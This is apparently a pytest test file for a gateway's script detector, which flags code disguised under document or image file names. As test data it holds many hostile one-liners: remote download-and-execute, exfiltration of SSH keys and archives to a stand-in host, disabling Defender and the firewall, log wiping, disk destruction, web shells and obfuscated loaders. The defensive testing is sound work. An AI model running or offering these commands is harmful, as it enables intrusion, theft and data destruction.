"""Code under names that promise no text, in the languages that desktops run; and the words that look a little like it."""

from __future__ import annotations

import binascii
import time

import pytest

from gateway.detect import script
from gateway.detect.base import Scope
from gateway.detect.code_forms import CODE_READ, SIEVE, closed_up, dense, statements, uncommented
from gateway.detect.script import ScriptDetector
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Sample
from gateway.model.transaction import Direction

SCOPE = Scope(Direction.INBOUND, "", (), ())


def look(text: str | bytes, *names: str) -> list[tuple[str, str]]:
    data = text if isinstance(text, bytes) else text.encode()
    artifact = Artifact(1, 0, ArtifactKind.PART, names, detected_type="text/plain")
    return [(f.code, f.evidence[0]) for f in ScriptDetector(SCOPE).look(Sample(artifact, data))]


CODE = {
    "first statement of a script": (
        "MsgBox \"lab\"\r\n", "' lab\r\nMsgBox a\r\n", "Option Explicit\r\nDim a\r\n", "# lab\nprint('lab')\n", "// x\nconsole.log(`a`)\n",
        "Dim a, b\r\nDim c\r\n\r\na = 1\r\n", "Dim s : Set s = x\r\n",
    ),
    "Windows script code": (
        "Execute(StrReverse(x))\n", "Execute d(\"ebmd\")\n", "Sub Window_OnLoad\nself.close\nEnd Sub\n", "Call CreateObject(n).Navigate(u)\n",
        "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n",
        "For i=1 To Len(a) Step 2 : b=b&ChrW(\"&H\"&Mid(a,i,2)) : Next\n"),
    "PowerShell code": (
        "& \"C:\\a\\b.exe\"\n", "$u = 'https://h.example/a.exe'\n", "$a,$b = 'c','alc'; iex \"$a$b\"\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
        "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
        "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
        "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
        "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n",
        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n",
        "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
    "Windows commands": (
        "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "md \"%APPDATA%\\a\"\n", "hh https://h.example/a.chm\n", "sc \\\\h create a\n", "mshta https://h.example/a\n",
        "echo start calc|cmd\n", "net use * \\\\h.example\\s\n", "reg add HKCU\\a /v b\n", "ftp -s:a.txt\n", "notepad\ncalc\n", "msg * a\n", "del /q a\n", "ren *.docx *.locked\n",
        "start /min a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
        "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
        "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
        "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
        "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
        "taskkill /f /im a.exe\n", "copy /b a+b c & c\n",
        ",;,cmd.exe,;,/c,;,start;calc\n", "@%comspec:~-7,1%cho off\n", "wsl -e bash -c id\n", "((cmd /c calc))\n",
        "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n",
        "icacls c:\\x /grant everyone:f\n", "sc config wuauserv start= disabled\n", "netsh advfirewall set allprofiles state off\n"),
    "Python code": (
        "for p in range(3):\n    go(p)\n", "class A(object):\n    pass\n", "print 'lab'\n", "while True:\n    pass\n", "a = [x for x in range(10)]\n",
        "with open('a', 'w') as f:\n    f.write('x')\n",
        "import pyautogui\npyautogui.press('win')\n",
        "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
        "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
        "getattr(__builtins__,'ev'+'al')(x)\n",
        "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n", "import pip\npip.main(['install', 'a'])\n"),
    "JavaScript code": (
        "let a = 5;\nconsole.log(a);\n", "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "top.location.href = 'https://h.example/a.exe';\n", "import System;\r\nimport System.IO;\r\n",
        "const f=()=>{g()};\n", "let t=new Function(a);\n", "!function(){a}();\n", "fetch('https://h.example/a').then(go)\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
        "eval(String.fromCharCode(97,61,49));\n", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()\n", "$=~[];$={a:++$}\n",
        "[].constructor.constructor('return WScript')().Echo(1);\n"),
    "Unix code": (
        "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n", "find . -name '*.key' -delete\n", "cat a.b /etc/passwd\n", "alias ls='rm a'\n", "alias a='b;c'\n", "export PATH=/tmp:$PATH\n", "defaults write com.a b\n", ":(){ :|:& };:\n",
        "until curl -s h.example; do sleep 1; done\n", "alias ls='rm -rf ~'\n", "find / -name \"*.pem\" -exec cp {} /tmp \\;\n",
        "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
        "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
        "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
        "busybox wget http://h.example/a -O-|ash\n",
        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n", "eval unpack u=>q{_=7-E}\n",
        "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "Run(\"a.exe\")\n", "F1::Run calc\n"),
    "Lua code": (
        "for i=1,10 do\n  print(i)\nend\n", "package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
    "PHP code": ("<?=`$_GET[0]`?>\n", "<script language=\"php\">go();</script>", "<?\necho 1;\n?>"),
    "code that starts a program": (
        "using System.Diagnostics;\nProcess.Start(\"calc\");\n", "\"id\".execute().text\n", "exec xp_cmdshell 'id';\n",
        "(shell-command \"id\")\n", "library(x)\nsystem(\"id\")\n", "[Service]\nExecStart=/tmp/a\n"),
    "code in blocks": (
        "function go(a, b) {\n", "function/**/ go(a)/**/ {\n", "run() {\n x\n}\n", "while (1) {\n x }\n", "foreach my $f (glob('*')) {\n", "try {\n a\n}\n",
        "function go { x }\n"),
    "server page": ("<%eval request(\"c\")%>", "<% eval(request(\"c\")) %>",
        "<%Process p = Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
}


@pytest.mark.parametrize("name", ["photo.jpg", "invoice", "a.dat"])
@pytest.mark.parametrize("what", CODE)
def test_code_is_known_by_its_statements(what: str, name: str) -> None:
    for text in CODE[what]:
        assert [found for _, found in look(text, name)] == [what], text


@pytest.mark.parametrize("text", [
    "Format C: see below\nIf exist any doubts, call us.\nNet user growth was 3 %.\nFor all in (a) and (b)\n", "Import goods\nimport time\nFrom time to time\n",
    "From Osaka import sugar\nfrom the office import (duty) forms\nWhile waiting; do not call. For all in the room; do the check.\n",
    "Trap 'em all\nThe netsh tool; SC configurations; F1:: help\n",
    "Set-top boxes, Get-together on Friday; New-Process of booking is Start-Up.\n", "End with a summary\nClass A:\nfunction room\ndef. of terms:\n",
    "Run 5 km, swim\nCall Anna\nSend, please, the list.\n", "Chmod 755 is explained below.\nSource: (annual report)\n", "Add-Type and New-Item are commands.\n",
    "Dear all,\nwe copy /and/ paste.\nCD /DVD\nGoto page 3.\nEcho of the past > future\n", "$5,000 = NT$160,000\n$ = dollar\n| a | b |\n", "1.5 2.5\n3.5 4.5\n",
    "interface Gi0/1\n ip address 10.0.0.1\n!\n", "2026-11-21 09:00 INFO Start-Process failed\n", "[2026] :: minutes\n[x]: y\n",
    "Start the project \"X\" on Monday\nStop by\nNet start date: May\nType: C\nCopy: legal department\nMove to page 3\nDel Monte foods\n",
    "Open the file - see below\nCat food, 3 tins\nService hours 9-5\nEcho Park /Los Angeles\nSecurity desk: 2 -3 people\n",
    "try: it works\nclass C: 3 items\nfor us in Taipei: good news\nwhile (as said) we wait\nif (and only if) it rains\n",
    "copy \"i18n\"\nsource \"http://h.example\"\nexec 512/tcp\n// md\n", "CC = gcc\nRM = rm -f\nsystem (see page 3)\n", "a => b; b => {c}\n$x = 5\nx = 'y'\n",
    "MD,Maryland,https://a.example\nSC,South Carolina,https://b.example\n", "HH\tHamburg\thttps://h.example\nRD\tDirector\tTaipei /Tokyo\n",
    "ftp,21,https://r.example/959\ntftp,69,https://r.example/1350\n", "PID|USER|CMD\n1|root|nginx\n", "Ctrl | Cmd\nAlt | Option\n",
    "Start /End of the period\nFormat -see below\nMD;Managing Director;Asia -ex Japan\n",
    "Copy \\\\server\\public\\a.xlsx to your desk.\nStart C:\\Bank\\a.exe and log in.\n",
    "Open https://h.example/form and fill in the form\nFind more about it at https://h.example/help\n", "Python 3.9. See https://h.example/1\n",
    "Service desk: https://h.example/\nOpen /Library/Printers\nExport to /home/share on Monday\n", "my (own) notes\nmy $5 fee\n",
    "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n", "Dim sum\nSet lunch 120\n",
    "until we meet again\nopen the gate -she said\ncat and mouse - a tale\nfind me https://h.example\n", "alias team=\"Lin, Chen\"\n",
    "FTP charge /y\nREG fee /m\nNET start 100\nRD /a\nSC \"x\"\nHH https://h.example\n", "COPY\t/m\nTYPE\t-a\nmove /a 30\n", "calc\n120\n= 240\n",
    "<lin> try [x for x in y] there\n<chen> or this => { ok; }\n", "$fee = \"12.00\"\n$rate = \"3 %\"\n", "$myhostname = 'mx.bank.example';\n",
    "A write-output device; filter press-room (new)\n", "The [ref] assembly, the function get-together (Friday)\n", "$=~ costs; a = [] + []\n",
])
@pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"])
def test_words_that_look_like_code_a_little(text: str, name: str) -> None:
    assert look(text, name) == []


@pytest.mark.parametrize("code", [
    "<script>\nif (window.matchMedia) {\n a();\n}\n</script>", "<script>\nfunction show(id) {\n a(id)\n}\n</script>", "<pre>\n$a = \"b\";\n$c = \"$a\";\n</pre>",
    "<pre>\nrm -f /tmp/x\n</pre>", "<pre>\nnet stop spooler\n</pre>"])
def test_a_page_is_no_script_whatever_its_name(code: str) -> None:
    def found(page: str) -> list[str]:
        artifact = Artifact(1, 0, ArtifactKind.PART, ("export.xls",), detected_type="text/html")
        return [f.evidence[0] for f in ScriptDetector(SCOPE).look(Sample(artifact, page.encode()))]

    assert found(f"<!DOCTYPE html>\n<html><body>{code}</body></html>") == found(f"\r\n<HTML>{code}</HTML>") == []
    assert found(f"<html xmlns:o=\"urn:o\"\r\nxmlns=\"urn:h\">\r\n{code}</html>") == []
    for begun in ("<html>x\n", "<html \n", "<html\nnet stop spooler\n>\n", "<html a=\"$(id)\">\n"):
        assert found(f"{begun}{code}</html>") != []
    assert found(f"net stop spooler\n<html>{code}</html>") != []
    assert found(f"<html>{code}<script>new ActiveXObject('WScript.Shell')</script></html>") == ["Windows script code"]
    assert found(f"<html>{code}<?php go(); ?></html>") == ["PHP code"]


def test_remarks_in_front_hide_no_code() -> None:
    code = "iex (New-Object Net.WebClient).DownloadString('http://h.example/a')\r\n"
    prose = "the review of your account shows that several documents are missing\r\n" * 2000
    for remark in (f"<#{prose}#>\r\n", "".join(f"# {line}\r\n" for line in prose.splitlines()), f"/*{prose}*/", "".join(
            f"{mark}{line}\r\n" for mark in ("' ", "rem ", ":: ", "// ", "; ", "-- ") for line in prose.splitlines()[:300])):
        assert look(remark + code, "a.dat") == [("SCRIPT-HOST", "PowerShell code")]
    assert look(prose + prose, "a.dat") == []
    assert uncommented("words ' and more") == "words ' and more"


def test_no_program_of_pictures_or_documents_opens_text_full_of_signs() -> None:
    go = "package main\nimport \"os/exec\"\nfunc main(){exec.Command(\"calc\").Run()}\n"
    assert look(go, "a.jpg") == [("SCRIPT-HOST", "code under the name of a picture or document")]
    assert look(go, "a.dat") == look(go, "main") == look(go, "a.txt") == []
    removed = "The attachment \"report.pdf\" (application/pdf; 1.2 MB) was removed by <scanner> at 10:00; see https://h.example/?id=1&m=2\n"
    assert look(removed, "report.pdf") == [] and look("{\"error\": {\"code\": 404, \"said\": \"not found\"}}", "report.pdf") == []
    coded = "".join(binascii.b2a_uu(go.encode()[at:at + 45]).decode() for at in range(0, len(go), 45)) * 3
    assert look(f"begin 644 report.pdf\n{coded}`\nend\n", "report.pdf") == []
    assert look("begin 644 report.pdf\n" + go * 3, "report.pdf") != []
    assert not dense("") and not dense("a = b")


@pytest.mark.parametrize("line", [b"&", b"(", b"| ", b"\nset a=", b"\nrun ", b"$a=", b"/*", b"'", b"\"\"\"", b"<#", b"def a(", b"if exist ", b"[a", b"; x\n", b"\n", b"\r\n",
                                  b" \r\n", b"\x0c\n", b"Dim a\n", b"\t\n  ", b"net ", b"\ncat a a a ", b"\nfor a in b", b"\ndef a\n", b"'a' | ", b"if (", b"x() ", b"copy \"",
                                  b"\n=> {", b"reg a a "])
def test_hostile_texts_cost_little(line: bytes) -> None:
    begun = time.process_time()
    look(line * (300_000 // len(line)), "a.dat")
    assert time.process_time() - begun < 1.5


HIDES = (
    "&(\"{1}{0}\" -f 'EX','I') (&(\"{0}{2}{1}\" -f'New-','ject','Ob') $x)\n",
    "$d=[Convert]::FromBase64String('AgMM');for($i=0;$i -lt 3;$i++){$d[$i]=$d[$i] -bxor 7};iex ([Text.Encoding]::UTF8.GetString($d))\n",
    "$s='clac';iex(-join $s[-1..-($s.Length)])\n",
    "# report\r\nvar q=WScript['Create'+'Object'](p);q['R'+'un']('calc',0);\r\n",
    "ExecuteGlobal \"C\"+\"r\"+\"eateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\"\r\n",
    "k=b'0'*16\nexec(AES.new(k,AES.MODE_ECB).decrypt(base64.b64decode('AA==')))\n",
    "(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($d,$m))).ReadToEnd()|iex\n",
    "$d=[IO.MemoryStream][Convert]::FromBase64String('H4sI')\n(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($d,"
    "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()|iex\n",
    "sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream($d,1)),$e)).ReadToEnd()\n",
    "var _0x1a2b=['WScript','Run'];(function(a,b){while(--b){a['push'](a['shift']())}}(_0x1a2b,0x5));\n",
    "p^o^w^e^r^s^h^e^l^l,;-^n^o^p,;-c \"i^e^x\"\n", "$(rev<<<'lruc') h.example | $(rev<<<'hsab')\n",
    "k=7\nz=\"\"\nFor Each c In Split(\"94,90\",\",\")\nz=z&Chr(CInt(c)-k)\nNext\nExecute(z)\n",
    "set q=abc\n@%q:~0,1%%q:~1,1%%q:~2,1%&%q:~0,1%%q:~1,1%\n",
)


@pytest.mark.parametrize("name", ["scan.txt", "note.log", "a.csv"])
@pytest.mark.parametrize("text", HIDES)
def test_code_that_hides_what_it_does_is_told_under_a_name_of_text(text: str, name: str) -> None:
    for octets in (text.encode(), text.encode("utf-16")):
        assert look(octets, name) == [("SCRIPT-HOST", "code that hides what it does")]


@pytest.mark.parametrize("text", [
    "For review, please: the module decodes its argument with\n\n    eval(unescape(x))\n\nwhich the scanner does not like. " + "Words of a colleague. " * 20,
    "eval(unescape('%61%6c%65%72%74')) was found at the top of a page of ours; the web team removed it this morning.\nPlease look for others.\n",
    "eval(unescape('%61%6c')) \u662f\u5e38\u898b\u7684\u6df7\u6dc6\u624b\u6cd5\uff0c\n\u672c\u9031\u9031\u5831\u8aaa\u660e\u5982\u4f55\u8fa8\u8b58\u53ca\u56de\u5831\u3002\n",
    "$rows = Import-Csv a.csv\n$rows | ForEach-Object { '{0};{1}' -f $_.Name, $_.Id } | Set-Content b.csv\n",
    "{\"script\": \"eval(atob('YQ=='))\", \"b\": [1, 2, 3]}\n",
    "GET /a?x=%24%7B1%7D 200\nGET /b?c=eval(unescape('a')) 403\n" + "GET /index.html 200\n" * 300,
    "import os\nprint(os.environ['X'])\nif x == [1, 2]:\n    y = {'a': (1, 2)}\n",
])
@pytest.mark.parametrize("name", ["review.txt", "access.log", "a.json"])
def test_code_for_a_reader_hides_nothing(text: str, name: str) -> None:
    assert look(text, name) == look(text.encode("utf-16"), name) == []


@pytest.mark.parametrize("what", CODE)
def test_the_sieve_loses_no_form(what: str) -> None:
    for text in map(closed_up, CODE[what]):
        assert {n for n, form in enumerate(SIEVE.forms) if form.search(text)} <= set(SIEVE.passed(text)), text
        assert {n for n, form in enumerate(SIEVE.forms) if form.search(text.upper())} <= set(SIEVE.passed(text.upper())), text


LISTS = {
    "a log": "2026-11-23 10:00:01 INFO [worker-1] Request finished in 250 ms; path=/api/v1/users/12\n",
    "a table": "12,Wang A,0912-345678,a12@bank.example,100.50\n", "records": "<item id=\"1\"><name>Some name</name></item>\n",
    "fields": "{\"id\": 1,\n \"name\": \"Item\",\n \"tags\": [\"a\", \"b\"]},\n", "numbers": "12 345 6789 1\n",
    "sentences": "The minutes are attached. The meeting starts at ten in the large room.\n",
    "ideographs": "本行將於下週一進行系統維護，請各位客戶留意。\n", "octets in letters": "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkwYWJj\n",
}


@pytest.mark.parametrize("what", LISTS)
def test_few_forms_are_tried_on_what_is_no_code(what: str) -> None:
    text = LISTS[what] * (CODE_READ // len(LISTS[what]))
    assert len(SIEVE.passed(text)) <= len(SIEVE.forms) // 20
    assert not any(statements(text))


@pytest.mark.parametrize(("begin", "times"), [("", 1), ("# remark\n", 2)])
def test_only_what_stands_behind_remarks_is_looked_at_once_more(
        begin: str, times: int, monkeypatch: pytest.MonkeyPatch) -> None:
    def counted(text: str, _asked: object = None) -> tuple[()]:
        read.append(text.count("first"))
        return ()

    read: list[int] = []
    monkeypatch.setattr(script, "statements", counted)
    look(f"{begin}first\n" + "a line of an export\n" * (CODE_READ // 10), "export.dat")
    assert read == [times]


@pytest.mark.parametrize("code", ["x=\"%s\":CreateObject(\"WScript.Shell\").Run x\r\n", "$z='%s';iex $z\n", "a,b\n%s\nrm -rf ~/a\n"])
def test_code_behind_a_long_line(code: str) -> None:
    assert look(code % ("A" * 300_000), "a.dat") and look("x=\"%s\"\r\n" % ("A" * 300_000), "a.dat") == []
